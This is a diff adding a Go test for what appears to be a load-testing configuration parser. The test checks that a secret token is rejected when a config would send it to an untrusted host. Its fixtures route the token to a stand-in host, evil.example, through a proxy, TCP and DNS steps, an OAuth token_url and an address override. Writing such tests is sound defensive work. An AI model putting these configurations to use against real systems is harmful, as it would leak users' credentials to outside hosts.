@@ -136,3 +136,47 @@ func TestCredentialsInTheWorkspaceAreNotSent(t *testing.T) {
 		}
 	}
 }
+
+// Whatever else the file names may get what is sent, too.
+func TestOtherServicesMustBeTrusted(t *testing.T) {
+	opts := Options{
+		Path: "slo.yaml", Trusted: func(host string) bool { return host == "api.example" },
+		Env: func(string) (string, bool) { return "abc", true },
+	}
+	const file = `version: 1
+target: TARGET
+http: {HTTP}
+scenarios: [{steps: [{request: GET /}, STEP]}]
+stages: [{name: s, requests: 100, workers: 1}]
+`
+	const token = `headers: {authorization: "${secret.TOKEN}"}`
+	const oauth = `auth: {oauth2: {client_id: a, client_secret: "${secret.TOKEN}", token_url: "https://HOST/token"}}`
+	tests := map[string]struct{ http, step, to string }{
+		"resolve": {token + `, resolve: {api.example: 192.0.2.7}`, "{request: GET /}", "the address of"},
+		"proxy":   {token + `, proxy: "http://evil.example:3128"`, "{request: GET /}", "the proxy"},
+		"tcp":     {token, "{tcp: 'evil.example:22'}", "the step"},
+		"dns":     {token, "{dns: {server: 'evil.example:53', name: a.example}}", "the step"},
+		"tokens":  {strings.Replace(oauth, "HOST", "evil.example", 1), "{request: GET /}", "the token_url"},
+	}
+	for name, test := range tests {
+		text := strings.NewReplacer("TARGET", "http://api.example", "HTTP", test.http, "STEP", test.step).Replace(file)
+		if _, err := Parse([]byte(text), opts); err == nil || !strings.Contains(err.Error(), "SLO110: the value of \"${secret.TOKEN}\" must not be sent to "+test.to) {
+			t.Errorf("%s: %v", name, err)
+		}
+	}
+	kinds := map[string]string{
+		"basic":  `auth: {basic: {user: a, password: "${secret.TOKEN}"}}`,
+		"bearer": `auth: {bearer: "${secret.TOKEN}"}`,
+		"oauth2": strings.Replace(oauth, "HOST", "api.example", 1),
+		"sigv4":  `auth: {sigv4: {region: r, service: s, access_key: a, secret_key: "${secret.TOKEN}"}}`,
+		"query":  "timeout: 5s",
+	}
+	for name, kind := range kinds {
+		for target, want := range map[string]bool{"http://api.example": true, "http://evil.example": false} {
+			text := strings.NewReplacer("TARGET", target, "HTTP", kind, "STEP", `{request: GET /, query: {a: "${env.A}"}}`).Replace(file)
+			if _, err := Parse([]byte(text), opts); (err == nil) != want || err != nil && !strings.Contains(err.Error(), "SLO110") {
+				t.Errorf("%s to %s: %v, want it sent: %v", name, target, err, want)
+			}
+		}
+	}
+}
